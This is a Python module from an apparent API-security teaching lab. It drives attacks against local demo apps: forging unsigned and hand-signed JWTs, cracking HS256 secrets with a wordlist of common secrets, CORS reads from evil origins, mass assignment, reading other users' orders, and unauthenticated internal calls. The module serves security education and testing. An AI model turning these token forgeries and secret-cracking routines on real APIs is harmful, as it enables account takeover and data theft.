"""Securing REST APIs: the public payloads and the attack drivers that judge success.

Every driver takes an app (or a verify function) and returns an ``AttackResult``; the
apps are exercised in-process with Starlette's TestClient (``targets.client_for``).
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import time
from collections.abc import Callable, Iterable
from typing import Any

import jwt

from seclab.attacks import AttackResult
from seclab.topics.rest_api import targets

#: Secrets that JWT tutorials, README files and sample configs use (the wordlist of the cracking demo).
COMMON_SECRETS = ["secret", "password", "changeme", "jwt-secret", "your-256-bit-secret", "secretkey", "key",
                  "123456", "supersecret", "secret1", "mysecret", "s3cr3t", "admin", "test", "development"]

EVIL_ORIGINS = ["https://evil.example", "null", "https://app.example.com.evil.example"]


def _b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def none_token(claims: dict[str, Any]) -> str:
    """An unsigned token: header ``{"alg": "none"}``, the claims, an empty signature."""
    return str(jwt.encode(claims, "", algorithm="none"))  # "none" takes no key


def hmac_token(claims: dict[str, Any], secret: bytes, alg: str = "HS256") -> str:
    """A token signed by hand with HMAC-SHA256 over ``secret`` (PyJWT refuses some keys; an attacker does not)."""
    header = _b64(json.dumps({"alg": alg, "typ": "JWT"}, separators=(",", ":")).encode())
    payload = _b64(json.dumps(claims, separators=(",", ":")).encode())
    signature = hmac.new(secret, f"{header}.{payload}".encode(), hashlib.sha256).digest()
    return f"{header}.{payload}.{_b64(signature)}"


def admin_claims(lifetime: int | None = 900) -> dict[str, Any]:
    now = int(time.time())
    claims: dict[str, Any] = {"sub": targets.ADMIN, "iat": now, "iss": targets.ISSUER, "aud": targets.AUDIENCE}
    if lifetime is not None:
        claims["exp"] = now + lifetime
    return claims


def crack_secret(token: str, wordlist: Iterable[str] = COMMON_SECRETS) -> bytes | None:
    """The HS256 secret of ``token`` if it is in ``wordlist`` (an offline guess needs no server at all)."""
    signing_input, _, signature = token.rpartition(".")
    for word in wordlist:
        guess = hmac.new(word.encode(), signing_input.encode(), hashlib.sha256).digest()
        if hmac.compare_digest(_b64(guess), signature):
            return word.encode()
    return None


def get_admin(app: Any, token: str) -> AttackResult:
    """Present ``token`` to ``GET /admin``: succeeded when the admin data comes back."""
    status, body = targets.admin_page(app, token)
    return AttackResult(token[:60] + ("…" if len(token) > 60 else ""), status == 200 and body == targets.ADMIN_DATA,
                        f"GET /admin → {status} {json.dumps(body)[:100]}")


def accepted_by(verify: Callable[[str, bytes], str], token: str, key: bytes) -> AttackResult:
    """Does ``verify`` take ``token``? Succeeded when it returns a subject instead of raising ValueError."""
    try:
        subject = verify(token, key)
    except ValueError as error:
        return AttackResult(token[:60], False, f"refused: {str(error)[:100]}")
    return AttackResult(token[:60], True, f"accepted as {subject!r}")


def flood(app: Any, token: str | None, count: int = 30) -> AttackResult:
    """``count`` password-spraying style requests from one client: succeeded when none was slowed down."""
    client = targets.client_for(app)
    headers = {"Authorization": f"Bearer {token}"} if token else {}
    statuses = [client.get("/me", headers=headers).status_code for _ in range(count)]
    limited = statuses.count(429)
    return AttackResult(f"{count} × GET /me", limited == 0,
                        f"{count - limited} answered, {limited} refused with 429")


def cors_read(app: Any, token: str, origin: str = EVIL_ORIGINS[0]) -> AttackResult:
    """A page on ``origin`` reads ``GET /me`` with the user's credentials: succeeded when the browser would let it."""
    client = targets.client_for(app)
    response = client.get("/me", headers={"Authorization": f"Bearer {token}", "Origin": origin, "Cookie": "session=1"})
    allowed = response.headers.get("access-control-allow-origin")
    credentials = response.headers.get("access-control-allow-credentials") == "true"
    readable = allowed in (origin, "*") and (credentials or allowed == "*")
    return AttackResult(f"Origin: {origin}", readable,
                        f"Access-Control-Allow-Origin: {allowed}, Allow-Credentials: {credentials}")


def mass_assignment(app: Any, key: bytes) -> AttackResult:
    """alice posts an order with ``owner: bob``: succeeded when bob owns it (alice's order lands on bob's bill)."""
    client = targets.client_for(app)
    alice = {"Authorization": "Bearer " + targets.issue_token("alice", key)}
    response = client.post("/orders", json={"item": "laptop", "quantity": 1, "owner": "bob"}, headers=alice)
    owners = [order["owner"] for order in app.state.orders.values()]
    return AttackResult('{"item": "laptop", "quantity": 1, "owner": "bob"}', "bob" in owners,
                        f"POST /orders → {response.status_code}; stored owners: {owners}")


def read_other_order(app: Any, key: bytes) -> AttackResult:
    """bob walks the order ids: succeeded when he reads alice's order."""
    client = targets.client_for(app)
    alice = {"Authorization": "Bearer " + targets.issue_token("alice", key)}
    bob = {"Authorization": "Bearer " + targets.issue_token("bob", key)}
    created = client.post("/orders", json={"item": "engagement ring", "quantity": 1}, headers=alice).json()
    response = client.get(f"/orders/{created['id']}", headers=bob)
    return AttackResult(f"bob: GET /orders/{created['id']}", response.status_code == 200,
                        f"→ {response.status_code} {response.text[:80]}")


def internal_call(app: Any) -> AttackResult:
    """Call the "internal" endpoint with no credentials at all: succeeded when it answers."""
    response = targets.client_for(app).get("/internal/users")
    return AttackResult("GET /internal/users (no token)", response.status_code == 200,
                        f"→ {response.status_code} {response.text[:80]}")
